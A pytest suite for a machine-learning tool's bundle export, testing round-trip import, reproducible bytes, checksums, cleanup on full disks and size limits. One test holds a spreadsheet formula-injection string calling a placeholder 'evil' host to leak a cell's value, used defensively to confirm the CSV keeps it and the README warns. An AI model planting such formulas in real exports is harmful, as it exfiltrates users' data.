"""What `icl report --bundle` packs: whole, the same bytes each time, and readable without `icl`."""

import csv
import hashlib
import io
import json
import re
import shutil
import subprocess
import sys
import zipfile
from ast import literal_eval
from contextlib import closing
from pathlib import Path
from sqlite3 import connect

import pytest
from bundles import bundle, contents, draw_little, fill, imported_rows, rows
from recorded_runs import begin, finish, recorded_config
from safetensors.numpy import load

from icl_cli.errors import IclError, NothingMatchedError, StoreError, UsageError
from icl_cli.report.bundle import limits
from icl_cli.report.bundle.importing import import_bundle
from icl_cli.report.bundle.writing import write_bundle
from icl_cli.report.export import cannot_write
from icl_cli.report.write import write_report
from icl_cli.store import Database, RunStatus, back_up, copy_runs, get_snapshot, list_runs


@pytest.fixture(scope="module")
def source(tmp_path_factory):
    with Database.open(tmp_path_factory.mktemp("source") / "results.db", mode="create") as database:
        fill(database)
        yield database


@pytest.fixture(scope="module")
def drawn(source, tmp_path_factory) -> Path:
    """The bundle of all runs with the real page, unpacked."""
    folder = tmp_path_factory.mktemp("bundle")
    runs = list_runs(source)
    write_bundle(source, runs, lambda copy, to: write_report(copy, list_runs(copy), to), folder / "all.zip")
    with zipfile.ZipFile(folder / "all.zip") as archive:
        archive.extractall(folder)
    return folder / "icl-bundle"


def open_new(path: Path):
    return lambda: Database.open(path, mode="create")


def test_there_and_back_again_no_table_loses_anything(source, tmp_path):
    bundle(source, tmp_path / "all.zip")
    copied = import_bundle(tmp_path / "all.zip", open_new(tmp_path / "back.db"))
    assert (copied.copied, copied.present) == (5, 0)
    before = imported_rows(source.path)
    assert rows(tmp_path / "back.db") == before
    assert all(before.values())


def test_there_and_back_again_over_servers(source, tmp_path, postgresql):
    with (
        Database.open(postgresql.new_database(), mode="create") as server,
        Database.open(tmp_path / "back.db", mode="create") as back,
    ):
        copy_runs(source, server)
        of_file, of_server = bundle(source, tmp_path / "file.zip"), bundle(server, tmp_path / "server.zip")
        assert of_file.sha256 == of_server.sha256
        url = postgresql.new_database()
        import_bundle(tmp_path / "server.zip", lambda: Database.open(url, mode="create"))
        with Database.open(url, mode="read") as imported:
            copy_runs(imported, back)
        assert rows(back.path) == imported_rows(source.path)


def test_importing_twice_changes_nothing_and_what_is_there_is_left(source, tmp_path, alter_sqlite):
    bundle(source, tmp_path / "all.zip")
    target = tmp_path / "target.db"
    import_bundle(tmp_path / "all.zip", open_new(target))
    alter_sqlite(target, "UPDATE metrics SET value = 5 WHERE step = 0")
    before = rows(target)
    assert before != rows(source.path)
    again = import_bundle(tmp_path / "all.zip", open_new(target))
    assert (again.copied, again.present) == (0, 5)
    assert rows(target) == before


def test_a_bundle_of_some_runs_has_exactly_these(source, tmp_path):
    chosen = [run for run in list_runs(source) if run.name == "compared"]
    write_bundle(source, chosen, draw_little, tmp_path / "some.zip")
    copied = import_bundle(tmp_path / "some.zip", open_new(tmp_path / "some.db"))
    assert copied.copied == 2
    others = [run.id for run in list_runs(source) if run not in chosen]
    expected = {
        table: [row for row in found if not any(other in row for other in others)]
        for table, found in imported_rows(source.path).items()
    }
    assert rows(tmp_path / "some.db") == expected


def test_the_same_runs_give_the_same_bytes_whatever_was_in_the_database_before(source, tmp_path):
    first = bundle(source, tmp_path / "first.zip")
    with Database.open(tmp_path / "other.db", mode="create") as other:
        for run in reversed(list_runs(source)):
            copy_runs(source, other, [run.id])
        # Several times: what depends on the order of a set shows only now and then.
        for _ in range(4):
            second = bundle(other, tmp_path / "second.zip", replace=True)
            assert (tmp_path / "first.zip").read_bytes() == (tmp_path / "second.zip").read_bytes()
    assert first.sha256 == second.sha256 == hashlib.sha256((tmp_path / "first.zip").read_bytes()).hexdigest()
    assert first.size == (tmp_path / "first.zip").stat().st_size


@pytest.mark.slow
def test_the_page_and_its_figures_are_the_same_bytes_too(source, drawn, tmp_path):
    runs = list_runs(source)
    write_bundle(source, runs, lambda copy, to: write_report(copy, list_runs(copy), to), tmp_path / "again.zip")
    again = contents(tmp_path / "again.zip")
    assert again == {
        path.relative_to(drawn).as_posix(): path.read_bytes() for path in drawn.rglob("*") if path.is_file()
    }
    assert any(name.endswith(".svg") for name in again)


@pytest.mark.skipif(shutil.which("sha256sum") is None, reason="sha256sum is not installed")
def test_every_file_has_its_checksum_as_sha256sum_reads_it(drawn):
    result = subprocess.run(["sha256sum", "-c", "SHA256SUMS"], cwd=drawn, capture_output=True, text=True, check=False)
    files = [path for path in drawn.rglob("*") if path.is_file() and path.name != "SHA256SUMS"]
    assert result.returncode == 0, result.stdout
    assert result.stdout.count(": OK") == len(files)


def test_the_guides_lines_read_the_weights_without_icl(source, drawn):
    text = (drawn / "README.txt").read_text(encoding="utf-8")
    blocks = re.findall(r"(?:^  (?:from|import) .*\n(?:  .*\n)+)", text, re.MULTILINE)
    assert [len(block.splitlines()) for block in blocks] == [3, 4]
    code = "\n".join(line[2:] for block in blocks for line in block.splitlines())
    code += "\nimport sys; assert not any(name.startswith('icl') for name in sys.modules)"
    last = re.search(r"load_file\(.*\)", text)[0]
    code += f"\nprint(sorted(weights), all((array == {last}[name]).all() for name, array in weights[40].items()))"
    result = subprocess.run([sys.executable, "-c", code], cwd=drawn, capture_output=True, text=True, check=False)
    assert result.returncode == 0, result.stderr
    shapes, compared = result.stdout.splitlines()
    assert compared == "[0, 10, 20, 40] True"
    digits = re.search(r'load_file\("weights/(\w+)\.safetensors', text)[1]
    (run,) = [run for run in list_runs(source) if run.id.startswith(digits)]
    weights = load(get_snapshot(source, run.id).weights)
    assert literal_eval(shapes) == {name: array.shape for name, array in weights.items()}


def test_every_line_of_the_guide_fits_80_columns_and_names_what_is_there(drawn):
    text = (drawn / "README.txt").read_text(encoding="utf-8")
    assert max(map(len, text.splitlines())) <= 80
    for path in drawn.iterdir():
        assert path.name in text, path
    assert (drawn / "report" / "index.html").exists()
    assert "report/index.html" in text


def test_formulas_stay_as_written_and_the_guide_warns_of_them(tmp_path):
    formula = '=HYPERLINK("http://evil/?x="&A1,"open")'
    with Database.open(tmp_path / "formula.db", mode="create") as database:
        finish(database, formula, recorded_config())
        bundle(database, tmp_path / "formula.zip")
    files = contents(tmp_path / "formula.zip")
    (row,) = csv.DictReader(io.StringIO(files["tables/runs.csv"].decode(), newline=""))
    assert row["name"] == formula
    assert "takes those that begin with =, +, - or @ for formulas" in files["README.txt"].decode()


def test_every_run_has_its_file_and_its_weights(source, drawn):
    for run in list_runs(source):
        document = json.loads((drawn / "runs" / f"{run.short_id}.json").read_text(encoding="utf-8"))
        assert (document["id"], document["name"], document["status"]) == (run.id, run.name, run.status.value)
        assert document["config"] == run.config.model_dump(mode="json")
        assert document["provenance"] == dict(run.provenance)
        weights = drawn / "weights" / f"{run.short_id}.safetensors"
        if run.status is RunStatus.PLANNED:
            assert not weights.exists()
        else:
            assert weights.read_bytes() == get_snapshot(source, run.id).weights


def test_the_page_names_the_database_of_the_bundle_and_no_path_of_its_maker(source, drawn):
    for path in drawn.rglob("*"):
        if path.suffix in (".html", ".json", ".txt", ".csv", ".svg"):
            assert str(Path(source.path).parent) not in path.read_text(encoding="utf-8"), path
            assert "icl-bundle-" not in path.read_text(encoding="utf-8"), path


def test_the_database_opens_where_nothing_can_be_written(drawn):
    header = (drawn / "results.db").read_bytes()[:20]
    # 1: a rollback journal; 2 would be a log, whose index a reader has to make beside the file.
    assert tuple(header[18:20]) == (1, 1)


def test_runs_that_are_being_trained_are_left_out(tmp_path):
    with Database.open(tmp_path / "busy.db", mode="create") as database:
        busy = begin(database, "busy", recorded_config())
        with pytest.raises(NothingMatchedError, match="being trained"):
            bundle(database, tmp_path / "busy.zip")
        begin(database, "other", recorded_config({"seed": 5}))
        with database.write() as connection:
            connection.exec_driver_sql(
                "UPDATE runs SET lease_expires_at = '2025-01-01 00:00:00.000000' WHERE name = 'other'"
            )
        done = bundle(database, tmp_path / "busy.zip")
    assert (done.runs, done.in_training) == (1, (busy.id,))


def test_nothing_is_replaced_unless_asked_for(source, tmp_path):
    file = tmp_path / "mine.zip"
    file.write_text("mine")
    with pytest.raises(UsageError, match=r"exists and was left as it is. Give --force"):
        bundle(source, file)
    assert file.read_text() == "mine"
    assert bundle(source, file, replace=True).size == file.stat().st_size > 4


FULL = "No space left on device"
ELSEWHERE = r"\. .*: set TMPDIR to one with room\.$"


def full_table(_, folder, *__):
    """As `export_tables`, on a disk without room."""
    error = OSError(28, FULL, str(folder / "runs.csv"))
    raise cannot_write(folder, error) from error


def full_disk(*_, **__):
    raise OSError(28, FULL)


def full_store(_, target):
    raise StoreError(f"No space left for {target} (database or disk is full). Free space.")


@pytest.mark.parametrize(
    ("way", "fails", "said"),
    [
        ("archive._flush", full_disk, rf"^Cannot write {{file}}: {FULL}\. Choose a folder with room\.$"),
        (
            "writing.export_tables",
            full_disk,
            rf"^Cannot write {{temporary}}: {FULL}{ELSEWHERE}",
        ),
        (
            "writing.export_tables",
            full_table,
            rf"^Cannot write {{temporary}}/icl-bundle-.*runs\.csv: {FULL}{ELSEWHERE}",
        ),
        (
            "writing.back_up",
            full_store,
            r"^No space left for {temporary}/icl-bundle-.* Or set TMPDIR to",
        ),
        (
            "writing.tempfile.TemporaryDirectory",
            full_disk,
            rf"^Cannot write {{temporary}}: {FULL}{ELSEWHERE}",
        ),
    ],
)
def test_what_fails_leaves_nothing_behind_and_names_the_place(source, tmp_path, monkeypatch, way, fails, said):
    temporary = tmp_path.with_name(f"{tmp_path.name}-temporary")
    temporary.mkdir()
    monkeypatch.setattr("tempfile.tempdir", str(temporary))
    (tmp_path / "there.zip").write_text("mine")

    monkeypatch.setattr(f"icl_cli.report.bundle.{way}", fails)
    for file, replace in ((tmp_path / "new.zip", False), (tmp_path / "there.zip", True)):
        with pytest.raises(IclError, match=said.format(file=re.escape(str(file)), temporary=re.escape(str(temporary)))):
            bundle(source, file, replace=replace)
    assert [path.name for path in tmp_path.iterdir()] == ["there.zip"]
    assert (tmp_path / "there.zip").read_text() == "mine"
    assert list(temporary.iterdir()) == []


@pytest.mark.parametrize(
    ("names", "said"),
    [
        ({"MOST_FILES": 10}, "allowed are 10 files with"),
        ({"MOST_BYTES": 1000}, "files with 1000 bytes"),
        ({"MOST_SWELLING": 1, "HARMLESS_BYTES": 1000}, "bytes would come out of it"),
    ],
)
def test_no_archive_is_made_that_the_import_refuses(source, tmp_path, monkeypatch, names, said):
    for name, value in names.items():
        monkeypatch.setattr(limits, name, value)
    with pytest.raises(IclError, match=rf"`icl import` would refuse it: .*{said}.*Name fewer runs"):
        bundle(source, tmp_path / "large.zip")
    assert list(tmp_path.iterdir()) == []


def test_what_is_too_large_is_known_before_anything_is_drawn(source, tmp_path, monkeypatch):
    def draw(*_):
        raise AssertionError("drawn")

    monkeypatch.setattr(limits, "MOST_BYTES", 1000)
    with pytest.raises(IclError, match="would refuse it"):
        write_bundle(source, list_runs(source), draw, tmp_path / "large.zip")


def test_what_the_import_would_stumble_over_is_not_handed_on(source, tmp_path, alter_sqlite):
    back_up(source, tmp_path / "deep.db")
    deep = "[" * 100_000
    alter_sqlite(tmp_path / "deep.db", f"UPDATE runs SET provenance = '{deep}' WHERE name = 'interrupted'")
    with (
        Database.open(tmp_path / "deep.db", mode="read") as altered,
        pytest.raises(StoreError, match="cannot be handed on"),
    ):
        write_bundle(altered, list_runs(source), draw_little, tmp_path / "deep.zip")


@pytest.mark.parametrize(("place", "kind"), [("", UsageError), ("missing/new.zip", IclError)])
def test_a_place_where_no_file_can_be_made_is_told_first(source, tmp_path, place, kind):
    with pytest.raises(kind, match=r"folder"):
        write_bundle(source, list_runs(source), lambda *_: pytest.fail("drawn"), tmp_path / place)


def test_altered_runs_are_not_handed_on(source, tmp_path, alter_sqlite):
    back_up(source, tmp_path / "altered.db")
    alter_sqlite(tmp_path / "altered.db", "UPDATE snapshots SET sha256 = 'x'")
    with (
        Database.open(tmp_path / "altered.db", mode="read") as altered,
        pytest.raises(StoreError, match=r"cannot be handed on: The stored weights of run .* were altered"),
    ):
        bundle(altered, tmp_path / "altered.zip")
    assert not (tmp_path / "altered.zip").exists()


def test_the_database_of_a_bundle_is_like_any_other(source, drawn, tmp_path):
    Database.open(tmp_path / "usual.db", mode="create").close()
    usual, bundled = (schema(path) for path in (tmp_path / "usual.db", drawn / "results.db"))
    assert bundled == usual


def schema(path: Path) -> dict[str, object]:
    """Tables with their columns and keys, and indices, as SQLite understands them."""
    with closing(connect(path)) as connection:
        names = [name for (name,) in connection.execute("SELECT name FROM sqlite_master WHERE sql IS NOT NULL")]
        facts = ("table_xinfo", "foreign_key_list", "index_xinfo")
        return {
            name: [sorted(map(repr, _without_number(connection.execute(f'PRAGMA {fact}("{name}")')))) for fact in facts]
            for name in names
        }


def _without_number(found) -> list:
    return [row[2:] for row in found]
